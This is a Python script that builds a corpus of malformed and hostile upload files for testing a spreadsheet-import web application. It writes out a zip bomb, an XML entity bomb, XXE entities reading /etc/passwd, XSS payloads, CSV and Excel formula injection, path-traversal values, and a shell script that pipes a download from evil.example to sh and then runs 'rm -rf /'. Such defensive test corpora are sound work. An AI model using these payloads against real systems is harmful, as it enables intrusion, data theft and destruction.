"""Write the malformed-input corpus into this directory (run once; the output is kept in the repo).

    .venv/bin/python tests/corpus/make_corpus.py

Deterministic: running it again rewrites byte-identical files (fixed zip timestamps, seeded
randomness), so a diff shows when a file really changed. Pure Python plus openpyxl; no Django.
Every file is documented in README.md; tests/badinput/test_corpus.py says what each one must
provoke at every upload it can reach. Huge files are not here: the tests make them in tmp.
"""
from __future__ import annotations

import io
import random
import struct
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent.parent))

from openpyxl import Workbook  # noqa: E402

from tasks.sheet_format import (  # noqa: E402
    AGENCIES_SHEET, AGENCY_COLUMNS, ITEM_COLUMNS, ITEMS_SHEET, PLAN_FIELDS, PLAN_SHEET,
)

FIXED_TIME = (2026, 1, 1, 0, 0, 0)
SCRIPT = "<script>alert('xss')</script>"
IMG = '<img src=x onerror="alert(1)">'

# --- building blocks ---------------------------------------------------------------------------------


def plan_values(**overrides) -> dict:
    values = {"code": "bad-input", "number": "999/KH-UBND", "title": "Kế hoạch thử dữ liệu hỏng",
              "jurisdiction": "Tỉnh Dữ Liệu Hỏng", "issuing_body": "UBND tỉnh", "issued_on": "01/02/2024",
              "period_start": 2023, "period_end": 2030, "focal_agency": "Sở Tài chính", "review_reasons": None}
    values.update(overrides)
    return values


def item_row(**overrides) -> dict:
    row = {c.key: None for c in ITEM_COLUMNS}
    row.update({"code": "1", "level": "Chủ đề", "title": "Chủ đề một", "start_year": 2023, "end_year": 2030})
    row.update(overrides)
    return row


def agency_row(**overrides) -> dict:
    row = {c.key: None for c in AGENCY_COLUMNS}
    row.update({"name": "Sở Tài chính", "kind": "Sở, ban, ngành"})
    row.update(overrides)
    return row


def workbook(plan=None, items=(), agencies=(), *, item_headers=None, agency_headers=None, sheets=None) -> bytes:
    """A workbook in the export layout (tasks/sheet_format.py), with whatever values are given."""
    wb = Workbook()
    ws = wb.active
    ws.title = PLAN_SHEET
    ws.append(["Trường", "Giá trị"])
    for key, label in PLAN_FIELDS:
        ws.append([label, (plan or plan_values()).get(key)])
    ws = wb.create_sheet(ITEMS_SHEET)
    ws.append(item_headers or [c.header for c in ITEM_COLUMNS])
    for row in items:
        ws.append([row.get(c.key) for c in ITEM_COLUMNS])
    ws = wb.create_sheet(AGENCIES_SHEET)
    ws.append(agency_headers or [c.header for c in AGENCY_COLUMNS])
    for row in agencies:
        ws.append([row.get(c.key) for c in AGENCY_COLUMNS])
    if sheets is not None:
        for name in list(wb.sheetnames):
            if name not in sheets:
                del wb[name]
    return _save(wb)


def _save(wb) -> bytes:
    buf = io.BytesIO()
    wb.save(buf)
    return _restamp(buf.getvalue())


def _restamp(data: bytes) -> bytes:
    """Rewrite a zip with fixed timestamps so that the corpus is reproducible byte for byte."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                body = b'<?xml version="1.0" encoding="UTF-8"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"/>'
            dst.writestr(zipfile.ZipInfo(info.filename, FIXED_TIME), body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def zipped(entries: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in entries.items():
            z.writestr(zipfile.ZipInfo(name, FIXED_TIME), body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                 'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>')


def zip_bomb() -> bytes:
    """A tiny zip whose directory claims 4 × 3.9 GB unpacked: the sizes are patched into both the
    local headers and the central directory (the data itself is a few bytes)."""
    data = bytearray(zipped({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": "<workbook/>",
                             "xl/worksheets/sheet1.xml": "<worksheet/>", "xl/worksheets/sheet2.xml": "<worksheet/>"}))
    claimed = 3_900_000_000
    # Local file headers: signature PK\x03\x04, uncompressed size at offset 22.
    pos = data.find(b"PK\x03\x04")
    while pos != -1:
        struct.pack_into("<I", data, pos + 22, claimed)
        pos = data.find(b"PK\x03\x04", pos + 4)
    # Central directory headers: signature PK\x01\x02, uncompressed size at offset 24.
    pos = data.find(b"PK\x01\x02")
    while pos != -1:
        struct.pack_into("<I", data, pos + 24, claimed)
        pos = data.find(b"PK\x01\x02", pos + 4)
    return bytes(data)


def with_sheet_xml(data: bytes, sheet_part: str, xml: str) -> bytes:
    """Replace one part of a workbook's zip (the rest stays valid)."""
    src = zipfile.ZipFile(io.BytesIO(data))
    entries = {info.filename: src.read(info.filename) for info in src.infolist()}
    entries[sheet_part] = xml.encode("utf-8")
    return zipped(entries)


def xml_bomb_sheet() -> str:
    lol = ['<!ENTITY lol "lol">'] + [f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">'
                                     for i in range(1, 10)]
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE worksheet [' + "".join(lol) + ']>\n'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>')


def xxe_sheet() -> str:
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            '<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>')


# --- the corpus ----------------------------------------------------------------------------------------


def build() -> dict[str, bytes]:
    rnd = random.Random(396)
    valid = workbook(items=[item_row(), item_row(code="1.1", level="Nhóm nhiệm vụ", title="Nhóm một")],
                     agencies=[agency_row()])
    files: dict[str, bytes] = {}

    # Broken spreadsheets
    files["xlsx-empty.xlsx"] = b""
    files["xlsx-truncated.xlsx"] = valid[: len(valid) // 2]
    files["xlsx-pk-garbage.xlsx"] = b"PK\x03\x04" + bytes(rnd.getrandbits(8) for _ in range(2000))
    files["xlsx-zip-not-office.xlsx"] = zipped({"readme.txt": "Không phải tệp Excel.", "data/a.csv": "a,b\n1,2\n"})
    files["xlsx-zip-bomb.xlsx"] = zip_bomb()
    files["xlsx-xml-bomb.xlsx"] = with_sheet_xml(valid, "xl/worksheets/sheet2.xml", xml_bomb_sheet())
    files["xlsx-xxe-entity.xlsx"] = with_sheet_xml(valid, "xl/worksheets/sheet2.xml", xxe_sheet())
    files["xlsx-corrupt-sheet-xml.xlsx"] = with_sheet_xml(valid, "xl/worksheets/sheet2.xml",
                                                          "<worksheet><sheetData><row><c>unterminated")
    files["xlsx-corrupt-plan-sheet-xml.xlsx"] = with_sheet_xml(valid, "xl/worksheets/sheet1.xml",
                                                               '<worksheet xmlns="http://schemas.openxmlformats.org/'
                                                               'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" '
                                                               't="inlineStr"><is><t>Trường</t></is></c></row><row r="2')
    files["xlsm-with-macro.xlsm"] = zipped({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": "<workbook/>",
                                            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})
    files["docx-unknown-office-part.docx"] = zipped({"[Content_Types].xml": CONTENT_TYPES, "foo/bar.xml": "<x/>"})

    # Wrong structure / wrong columns
    wb = Workbook()
    wb.active.title = "Sheet1"
    wb.active.append(["Mã", "Tên"])
    wb.active.append(["1", "Không có trang Kế hoạch"])
    files["xlsx-no-plan-sheets.xlsx"] = _save(wb)
    files["xlsx-wrong-columns.xlsx"] = workbook(
        items=[item_row()], agencies=[agency_row()],
        item_headers=["Code", "Level", "Title", "Lead"] + [f"Cột {n}" for n in range(13)],
        agency_headers=["Name", "Kind"])
    wb = Workbook()
    wb.active.title = PLAN_SHEET
    wb.create_sheet(ITEMS_SHEET)
    wb.create_sheet(AGENCIES_SHEET)
    files["xlsx-empty-sheets.xlsx"] = _save(wb)
    files["xlsx-missing-plan-identity.xlsx"] = workbook(
        plan=plan_values(number=None, jurisdiction=None, period_start=None, period_end=None),
        items=[item_row()], agencies=[agency_row()])

    # Invalid dates and numbers
    files["xlsx-invalid-dates.xlsx"] = workbook(
        plan=plan_values(issued_on="31/02/2025"), items=[item_row()],
        agencies=[agency_row(successors="Sở Mới", successor_dates="hôm qua")])
    files["xlsx-invalid-numbers.xlsx"] = workbook(
        plan=plan_values(period_start="hai nghìn", period_end=1800),
        items=[item_row(start_year="năm sau"), item_row(code="1.1", level="Nhóm nhiệm vụ", title="N", start_year=20.5),
               item_row(code="1.2", level="Nhóm nhiệm vụ", title="N", end_year=99999),
               item_row(code="1.3", level="Nhóm nhiệm vụ", title="N", start_year=2030, end_year=2023)],
        agencies=[agency_row()])
    files["xlsx-invalid-codes.xlsx"] = workbook(
        items=[item_row(code="abc"), item_row(code="1..2", level="Nhóm nhiệm vụ"),
               item_row(code="../../etc/passwd", level="Nhóm nhiệm vụ")],
        agencies=[agency_row()])
    files["xlsx-unknown-level-and-kind.xlsx"] = workbook(
        items=[item_row(level="Cấp 9")], agencies=[agency_row(kind="Bộ ngoài danh sách", is_group="có lẽ")])
    files["xlsx-duplicate-agencies.xlsx"] = workbook(items=[item_row()], agencies=[agency_row(), agency_row()])
    files["xlsx-unknown-agency.xlsx"] = workbook(
        items=[item_row(), item_row(code="1.1", level="Nhóm nhiệm vụ", title="Nhóm một", lead_agency="Sở Không Tồn Tại")],
        agencies=[agency_row()])

    files["xlsx-overlong-values.xlsx"] = workbook(
        plan=plan_values(number="396/KH-UBND " + "x" * 200, jurisdiction="Tỉnh " + "Dài " * 60),
        items=[item_row(printed_code="1" * 100, source_file="tệp " * 80)],
        agencies=[agency_row(name="Sở " + "Rất Dài " * 40, short_name="S" * 100, aliases="Tên khác " * 70)])

    # Formulas and script
    wb_bytes = workbook(items=[item_row(title='=HYPERLINK("http://evil.example/","bấm vào")'),
                               item_row(code="1.1", level="Nhóm nhiệm vụ", title="=1+1")],
                        agencies=[agency_row(name="=cmd|' /C calc'!A0")])
    files["xlsx-formula-cells.xlsx"] = wb_bytes
    every = {c.key: SCRIPT for c in ITEM_COLUMNS}
    files["xlsx-script-in-every-cell.xlsx"] = workbook(
        plan=plan_values(**{k: SCRIPT for k, _ in PLAN_FIELDS}),
        items=[every, {**every, "code": IMG}],
        agencies=[{c.key: IMG for c in AGENCY_COLUMNS}])

    # Text documents in the wrong encoding, or not a plan at all
    vietnamese = "KẾ HOẠCH\nThực hiện Chiến lược quốc gia về tăng trưởng xanh trên địa bàn tỉnh\n"
    files["doc-cp1258.txt"] = vietnamese.encode("cp1258", errors="replace")
    files["doc-latin1.txt"] = "Kế hoạch số 396 – ngày 01/02/2024 ".encode("utf-8").decode("utf-8").encode(
        "latin-1", errors="replace") + b"\xe9\xe8\xff\xfe caf\xe9\n"
    files["doc-utf16.txt"] = vietnamese.encode("utf-16")
    files["doc-whitespace.txt"] = b"   \n\t\r\n   \n"
    files["doc-not-a-plan.txt"] = ("Biên bản họp giao ban tuần.\nKhông phải kế hoạch hành động.\n" * 20).encode()
    files["doc-html-page.html"] = (f"<!doctype html><html><head><title>{SCRIPT}</title></head>"
                                   f"<body onload=\"alert(1)\">{IMG}<h1>KẾ HOẠCH</h1>{SCRIPT}</body></html>").encode()
    files["doc-bidi-zero-width.txt"] = ("KẾ\u200b HOẠCH\u202e 396/KH-UBND\u202c\u2066\u200d\ufeff\n"
                                        "Mục\u00a01.1.1\u2028 \u0085 \ud7ff\n").encode("utf-8")
    files["doc-nul-bytes.txt"] = b"KE HOACH\x00\x00\x00 so 396\x00\n" + bytes(range(32)) * 4
    files["csv-formula-injection.csv"] = ("Mã,Tên,Cơ quan\n1,=cmd|' /C calc'!A0,@SUM(1+1)\n"
                                          "2,+HYPERLINK(\"http://evil.example\"),-2+3\n").encode()
    files["xml-external-entity.xml"] = ('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
                                        "<r>&x;</r>\n").encode()

    # Programs and markup under document names
    files["program-renamed.pdf"] = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
                                    + b"PE\x00\x00This program cannot be run in DOS mode.\r\n")
    files["elf-renamed.docx"] = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 40
    files["shell-script-renamed.pdf"] = b"#!/bin/sh\ncurl http://evil.example/x | sh\nrm -rf /\n"
    files["svg-with-script.svg"] = (b'<?xml version="1.0" standalone="no"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
                                    b'onload="alert(document.domain)"><script type="text/javascript">'
                                    b"fetch('/admin/').then(r=>r.text()).then(t=>alert(t))</script></svg>\n")
    files["svg-renamed.png"] = (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
                                b'<rect width="10" height="10"/></svg>')
    files["html-renamed.pdf"] = f"<!DOCTYPE html><html><body>{SCRIPT}</body></html>".encode()
    files["random-bytes.jpg"] = bytes(rnd.getrandbits(8) for _ in range(1500))
    files["empty.pdf"] = b""

    # Contents paired with hostile upload names (README.md: "uploaded as")
    files["traversal-unix.pdf"] = b"\x7fELF\x02\x01\x01\x00traversal payload"
    files["traversal-windows.pdf"] = b"<html><script>alert('traversal')</script></html>"
    files["name-with-markup.xlsx"] = b"PK\x03\x04 not really a zip"
    files["name-with-newlines.pdf"] = b"MZ header injection"
    files["name-too-long.txt"] = "Không phải kế hoạch, tên tệp dài 300 ký tự.\n".encode()
    return files


def main() -> None:
    files = build()
    for stale in HERE.iterdir():
        if stale.is_file() and stale.name not in files and stale.suffix not in (".py", ".md"):
            stale.unlink()
    for name, data in files.items():
        (HERE / name).write_bytes(data)
    print(f"{len(files)} files written to {HERE}")


if __name__ == "__main__":
    main()
